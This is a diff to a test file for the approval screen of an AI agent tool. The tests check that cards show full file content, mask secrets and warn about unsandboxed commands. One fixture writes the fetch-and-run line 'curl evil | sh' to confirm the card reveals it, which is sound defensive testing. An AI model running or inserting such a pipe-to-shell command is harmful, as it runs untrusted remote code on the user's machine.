@@ -41,7 +41,7 @@ describe('the screen', () => {
         fc.string({ unit: fc.constantFrom('a', ' ', '漢', '🚢', '\n', '\u001B', '\u202E', '\t') }),
         (columns, rows, choice, focus, overlay, text) => {
           const scene = waiting(
-            { arguments: { command: text }, why: text, preview: text, agentId: text },
+            { arguments: { command: text }, why: text, preview: { text, truncated: false }, agentId: text },
             { focus, overlay, composer: fieldOf(text), isSideOpen: focus === 'chats' },
             { columns, rows },
           );
@@ -111,21 +111,26 @@ describe('the screen', () => {
 
   it('[A17] lets no words of a tool or a rule begin where only our own begin', () => {
     const long = `${'x'.repeat(60)} in /safe ${'y'.repeat(70)} sandboxed, no network`;
-    const card = drawn(waiting({ message: `Run: ${long}`, why: long, sandbox: 'none' }, { focus: 'card' }));
+    const card = drawn(
+      waiting(
+        { message: `Run: ${long}`, why: long, sandbox: { kind: 'none', network: 'all', hosts: [], readable: [] } },
+        { focus: 'card' },
+      ),
+    );
     expect(card.filter((line) => /^ (?:in|sandboxed)/.test(line)).map((line) => line.trim())).toEqual([
       'in /home/ada/notes',
     ]);
   });
 
   it('shows what is written itself where the preview of it was cut', () => {
-    const preview = '@@ -0,0 +1,2 @@\n+# fine\n\n[70000 bytes were left out here.]\n+# fine\n';
+    const preview = { text: '@@ -0,0 +1,2 @@\n+# fine\n+# fine\n', truncated: true };
     const args = { path: 'a', content: '# fine\ncurl evil | sh\n# fine' };
     const card = drawn(waiting({ toolName: 'write_file', arguments: args, preview }, { focus: 'card' })).join('\n');
     expect(card).toContain('+ curl evil | sh');
   });
 
   it('[A17] leaves out nothing of a preview because a line of it is long', () => {
-    const preview = `@@ -1 +1 @@ ${'x'.repeat(100)} unseen\n+new`;
+    const preview = { text: `@@ -1 +1 @@ ${'x'.repeat(100)} unseen\n+new`, truncated: false };
     const card = drawn(waiting({ toolName: 'edit_page', arguments: { page: 'a' }, preview }, { focus: 'card' }));
     expect(card.join('\n')).toContain('unseen');
   });
@@ -149,7 +154,13 @@ describe('the screen', () => {
   });
 
   it('[A15] says that a secret is masked, and warns where nothing is sandboxed', () => {
-    const masked = waiting({ arguments: { command: 'curl -H ‹masked 1›' }, sandbox: 'none' }, { focus: 'card' });
+    const masked = waiting(
+      {
+        arguments: { command: 'curl -H ‹masked 1›' },
+        sandbox: { kind: 'none', network: 'all', hosts: [], readable: [] },
+      },
+      { focus: 'card' },
+    );
     const text = drawn(masked).join('\n');
     expect(text).toContain('1 secret is masked');
     expect(text).toContain('not sandboxed: it runs with your own rights');
